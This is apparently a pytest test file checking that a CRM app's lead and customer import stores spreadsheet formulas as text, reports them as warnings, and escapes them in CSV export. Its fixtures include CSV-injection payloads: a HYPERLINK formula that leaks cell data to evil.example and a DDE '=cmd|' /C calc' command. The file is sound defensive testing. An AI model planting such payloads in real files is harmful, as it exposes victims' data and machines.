"""Spreadsheet formulas in imported files are stored as text and reported, never evaluated, and CSV
exports give a spreadsheet no cell to run (issue 18, defect 10)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from tests.api.helpers import ok
from tests.conftest import sign_in
from tests.workbooks import with_sheet

XLSX_MIME = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


async def _import(client, app, tenant, path: str, filename: str, content: bytes) -> dict:
    started = await client.post(path, files={"file": (filename, content, XLSX_MIME)}, headers=tenant.headers)
    assert started.status_code == 202, started.text
    await app.state.runtime.queue.drain()
    return ok(await client.get(f"/api/v1/import-jobs/{started.json()['id']}", headers=tenant.headers))


def _csv(rows: list[list[str]]) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return buffer.getvalue().encode()


def _reported(job: dict) -> set[tuple[int, str, str]]:
    return {(w["row_number"], w["field"], w["code"]) for w in job["warnings"]}


async def test_csv_cells_that_start_like_formulas_are_stored_as_text_and_reported(client, app, make_tenant):
    tenant = await make_tenant()
    content = _csv(
        [
            ["姓名", "公司名称", "手机", "区域", "备注", "标签"],
            [HYPERLINK, "+申华建材", "+86 138 0013 8000", "@SUM(1+1)", "-12.5", "展会,=1+1"],  # row 1
            ["李娜", "北京燕山建材", "=1+1", "华北", "", ""],  # row 2: a formula is no phone number
            ["王强", "-申华", "13800138000", "华东", "\t=cmd|' /C calc'!A0", ""],  # row 3: duplicate of 1
            ["赵敏", "广州建材", "13600136000", "-", "-华南", ""],  # row 4: "-" is a placeholder
        ]
    )

    job = await _import(client, app, tenant, "/api/v1/leads/import", "leads.csv", content)

    assert job["status"] == "completed", job
    assert (job["created_count"], job["duplicate_count"], job["error_count"]) == (2, 1, 1)
    # Only rows that were stored are warned about; the phone's + and the plain number are no formulas.
    assert job["warning_count"] == 5
    assert _reported(job) == {
        (1, "name", "import.formula_stored_as_text"),
        (1, "company", "import.formula_stored_as_text"),
        (1, "region", "import.formula_stored_as_text"),
        (1, "tags", "import.formula_stored_as_text"),
        (4, "notes", "import.formula_stored_as_text"),
    }
    assert {(e["row_number"], e["field"], e["code"]) for e in job["errors"]} == {
        (2, "phone", "phone.invalid"),
        (3, "phone", "duplicate"),
    }
    lead = ok(await client.get("/api/v1/leads", params={"q": "申华建材"}, headers=tenant.headers))["items"][0]
    assert (lead["name"], lead["company"], lead["region"], lead["notes"]) == (
        HYPERLINK,
        "+申华建材",
        "@SUM(1+1)",
        "-12.5",
    )
    assert sorted(lead["tags"]) == ["=1+1", "展会"]
    page = ok(
        await client.get(
            f"/api/v1/import-jobs/{job['id']}/warnings", params={"limit": 4}, headers=tenant.headers
        )
    )
    assert {(w["row_number"], w["field"]) for w in page["items"]} == {
        (1, "company"),
        (1, "name"),
        (1, "region"),
        (1, "tags"),
    }
    rest = ok(
        await client.get(
            f"/api/v1/import-jobs/{job['id']}/warnings",
            params={"cursor": page["next_cursor"]},
            headers=tenant.headers,
        )
    )
    assert [(w["row_number"], w["field"]) for w in rest["items"]] == [(4, "notes")]
    errors = ok(await client.get(f"/api/v1/import-jobs/{job['id']}/errors", headers=tenant.headers))
    assert [e["code"] for e in errors["items"]] == ["phone.invalid", "duplicate"]


_SHEET = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    '<row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c>'
    '<c r="B1" t="inlineStr"><is><t>company</t></is></c>'
    '<c r="C1" t="inlineStr"><is><t>phone</t></is></c>'
    '<c r="D1" t="inlineStr"><is><t>budget</t></is></c></row>'
    # A formula with the result Excel saved, a formula saved without one, a text that looks like one.
    '<row r="2"><c r="A2" t="str"><f>CONCAT("张","伟")</f><v>张伟</v></c>'
    '<c r="B2" t="inlineStr"><is><t>=cmd|\' /C calc\'!A0</t></is></c>'
    '<c r="C2"><v>13800138000</v></c><c r="D2"><f>C3*2</f><v>250000</v></c></row>'
    '<row r="3"><c r="A3" t="inlineStr"><is><t>李娜</t></is></c>'
    '<c r="B3"><f>HYPERLINK("http://evil.example","x")</f></c>'
    '<c r="C3"><v>13700137000</v></c></row>'
    "</sheetData></worksheet>"
).encode()


async def test_workbook_formulas_import_their_saved_result_and_are_reported(
    client, app, make_tenant, tmp_path: Path
):
    tenant = await make_tenant()
    content = with_sheet(tmp_path / "leads.xlsx", _SHEET).read_bytes()

    job = await _import(client, app, tenant, "/api/v1/leads/import", "leads.xlsx", content)

    assert job["status"] == "completed", job
    assert (job["created_count"], job["error_count"]) == (2, 0)
    assert _reported(job) == {
        (1, "name", "import.formula_result_imported"),
        (1, "company", "import.formula_stored_as_text"),
        (1, "budget", "import.formula_result_imported"),
        (2, "company", "import.formula_result_imported"),
    }
    messages = {(w["row_number"], w["field"]): w["message"] for w in job["warnings"]}
    assert "'张伟'" in messages[(1, "name")]
    assert "no saved result" in messages[(2, "company")]
    leads = ok(await client.get("/api/v1/leads", headers=tenant.headers))["items"]
    by_name = {lead["name"]: lead for lead in leads}
    assert by_name["张伟"]["company"] == "=cmd|' /C calc'!A0"
    assert by_name["张伟"]["budget"] == "250000.00"
    assert by_name["李娜"]["company"] is None


async def test_an_imported_formula_leaves_a_csv_export_as_text(client, app, make_tenant, clock):
    tenant = await make_tenant()
    content = _csv([["name", "区域"], [HYPERLINK, "华东"], ["@申华", "+华南"]])
    job = await _import(client, app, tenant, "/api/v1/customers/import", "customers.csv", content)
    assert job["created_count"] == 2
    assert _reported(job) == {
        (1, "name", "import.formula_stored_as_text"),
        (2, "name", "import.formula_stored_as_text"),
        (2, "region", "import.formula_stored_as_text"),
    }
    clock.advance(days=10)
    tenant.token = await sign_in(client, tenant.admin_username)  # the first token has expired

    exported = await client.get("/api/v1/kpis/stale", headers={**tenant.headers, "Accept": "text/csv"})

    assert exported.status_code == 200
    rows = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"))))
    assert sorted(row["name"] for row in rows) == sorted(["'" + HYPERLINK, "'@申华"])
    assert {row["days_since"] for row in rows} == {"10"}
